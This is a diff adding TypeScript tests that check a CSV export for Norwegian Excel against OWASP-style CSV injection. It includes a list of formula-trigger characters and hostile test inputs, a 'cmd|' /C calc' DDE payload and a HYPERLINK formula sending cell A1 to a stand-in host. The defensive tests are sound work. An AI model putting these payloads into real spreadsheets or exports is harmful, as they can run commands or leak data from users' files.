@@ -53,3 +53,75 @@ describe('indicators as CSV for Norwegian Excel', () => {
     expect(line).toContain('"Lofoten; ""Vesterålen"" og Salten"');
   });
 });
+
+/** The fields of each line as a spreadsheet reads them: `;` between, `"…"` quoting with `""` inside. */
+function parseCsv(csv: string): string[][] {
+  const lines: string[][] = [];
+  let fields: string[] = [];
+  let field = '';
+  let quoted = false;
+  const text = csv.replace(/^\uFEFF/, '');
+  for (let i = 0; i < text.length; i++) {
+    const c = text[i];
+    if (quoted && c === '"' && text[i + 1] === '"') {
+      field += '"';
+      i++;
+    } else if (quoted) {
+      if (c === '"') quoted = false;
+      else field += c;
+    } else if (c === '"' && field === '') {
+      quoted = true;
+    } else if (c === ';' || (c === '\r' && text[i + 1] === '\n')) {
+      fields.push(field);
+      field = '';
+      if (c === '\r') {
+        lines.push(fields);
+        fields = [];
+        i++;
+      }
+    } else {
+      field += c;
+    }
+  }
+  return lines;
+}
+
+describe('indicators as CSV: no formula from a name (OWASP CSV injection)', () => {
+  // OWASP's list, then what this code adds as a precaution: the same after white space, and fullwidth.
+  const dangerous = [
+    ['=', 'equals sign'],
+    ['+', 'plus sign'],
+    ['-', 'hyphen-minus'],
+    ['@', 'commercial at'],
+    ['\t', 'tab (0x09)'],
+    ['\r', 'carriage return (0x0D)'],
+    [' =', 'space, then equals'],
+    ['\n=', 'line feed, then equals'],
+    ['\u00a0+', 'no-break space, then plus'],
+    ['\uFF1D', 'fullwidth equals sign'],
+    ['\uFF0B', 'fullwidth plus sign'],
+    ['\uFF0D', 'fullwidth hyphen-minus'],
+    ['\uFF20', 'fullwidth commercial at'],
+  ];
+  const withNames = (group: string, label: string): IndicatorTable => ({ ...table, rows: [{ ...row, group, label }] });
+
+  it.each(dangerous)('neutralises a name that starts with %j (%s), in the group and the name', (start) => {
+    const payload = `${start}HYPERLINK("https://example.invalid/?x="&A1;"Klikk")`;
+    const [, fields] = parseCsv(indicatorsCsv(withNames(`${start}cmd|' /C calc'!A0`, payload)));
+    expect(fields).toHaveLength(19);
+    expect(fields[2]).toBe(`'${start}cmd|' /C calc'!A0`);
+    expect(fields[3]).toBe(`'${payload}`);
+  });
+
+  it('leaves ordinary names, and signs inside a name, as they are', () => {
+    const [, fields] = parseCsv(indicatorsCsv(withNames('troms-og-ofoten', 'Helse Nord – 2 + 2 = 4 @ Bodø')));
+    expect(fields.slice(2, 4)).toEqual(['troms-og-ofoten', 'Helse Nord – 2 + 2 = 4 @ Bodø']);
+  });
+
+  it('keeps numbers numbers, negative ones too', () => {
+    const negative = { ...row, slaBreached: -3, backlogAgeP50Hours: -0.5 } as IndicatorRow;
+    const [, fields] = parseCsv(indicatorsCsv({ ...table, rows: [negative] }));
+    expect(fields[9]).toBe('-0,5');
+    expect(fields[15]).toBe('-3');
+  });
+});
